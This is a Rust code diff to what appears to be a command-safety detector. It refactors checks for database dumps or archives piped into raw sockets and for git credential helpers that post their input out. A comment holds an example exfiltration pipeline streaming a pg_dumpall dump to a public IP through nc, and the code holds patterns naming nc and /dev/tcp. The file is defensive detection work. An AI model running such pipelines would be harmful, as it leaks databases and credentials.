@@ -5274,24 +5274,9 @@ fn socket_peer(s: &Segment) -> Option<&str> {
 /// `pg_dumpall | gzip | nc 203.0.113.9 9000`: a dump, a backup or an
 /// archive streamed into a raw socket towards a public address.
 fn data_to_socket(segs: &[Segment], out: &mut Vec<Match>) {
+    // Besides the database dumpers (`detect::DB_DUMPERS`).
     const PRODUCERS: &[&str] = &[
-        "pg_dump",
-        "pg_dumpall",
-        "mysqldump",
-        "mariadb-dump",
-        "mongodump",
-        "mongoexport",
-        "sqlite3",
-        "etcdctl",
-        "tar",
-        "zip",
-        "7z",
-        "gzip",
-        "pigz",
-        "xz",
-        "zstd",
-        "bzip2",
-        "dd",
+        "sqlite3", "etcdctl", "tar", "zip", "7z", "gzip", "pigz", "xz", "zstd", "bzip2", "dd",
     ];
     for (j, t) in segs.iter().enumerate() {
         let Some(peer) = socket_peer(t) else { continue };
@@ -5301,6 +5286,7 @@ fn data_to_socket(segs: &[Segment], out: &mut Vec<Match>) {
         let fed = segs[..j].iter().any(|u| {
             u.pipeline == t.pipeline
                 && (PRODUCERS.contains(&u.cmd.as_str())
+                    || super::detect::DB_DUMPERS.contains(&u.cmd.as_str())
                     // A cloud or cluster copy to standard output.
                     || matches!(u.cmd.as_str(), "aws" | "gsutil" | "rclone" | "az" | "kubectl")
                         && (u.args.iter().any(|a| a == "-" || a == "cat")
@@ -6613,11 +6599,14 @@ fn quoted_strings(code: &str) -> Vec<String> {
 /// `credential_process`, every git key that runs one (`shell::git_key_command`,
 /// by `[section]` and key), and a `.gitmodules` URL over the `ext::`
 /// transport (at most eight).
-fn config_commands(path: &str, text: &str) -> Vec<String> {
+fn config_commands(path: &str, text: &str) -> Vec<(String, String)> {
     let p = path.to_ascii_lowercase();
     let name = p.rsplit('/').next().unwrap_or(&p);
     if name.ends_with(".plist") {
-        return plist_command(text).into_iter().collect();
+        return plist_command(text)
+            .map(|c| ("ProgramArguments".to_string(), c))
+            .into_iter()
+            .collect();
     }
     let git = name == ".gitconfig" || p.ends_with(".git/config") || name == ".gitmodules";
     let keys: &[&str] = if p.ends_with(".cargo/config.toml") || p.ends_with(".cargo/config") {
@@ -6674,7 +6663,8 @@ fn config_commands(path: &str, text: &str) -> Vec<String> {
             continue;
         };
         if !command.is_empty() && out.len() < 8 {
-            out.push(command);
+            let key = if git { format!("{section}.{k}") } else { k };
+            out.push((key, command));
         }
     }
     out
@@ -6753,18 +6743,14 @@ fn written_script(coach: &Coach, path: &str, text: &str, depth: usize, out: &mut
     if depth >= 2 || text.trim().is_empty() {
         return;
     }
-    for cmd in config_commands(path, text) {
+    for (key, cmd) in config_commands(path, text) {
         // git feeds a credential helper the username and password on
         // stdin; a helper that posts its stdin somewhere sends them.
-        if cmd.has("@-") || cmd.has("-T -") || cmd.has("| nc ") || cmd.has("/dev/tcp/") {
-            let helper = text.lines().any(|l| {
-                let l = l.trim_start().to_ascii_lowercase();
-                l.starts_with("helper") && l.has(&cmd.to_ascii_lowercase())
-            });
-            if helper {
-                hit(out, ix::CRED_SENT);
-                return;
-            }
+        let posts_stdin =
+            cmd.has("@-") || cmd.has("-T -") || cmd.has("| nc ") || cmd.has("/dev/tcp/");
+        if key.starts_with("credential.") && key.ends_with(".helper") && posts_stdin {
+            hit(out, ix::CRED_SENT);
+            return;
         }
         let inner = quoted_command(coach, &cmd, depth);
         if inner.iter().any(|m| m.severity == Critical) {
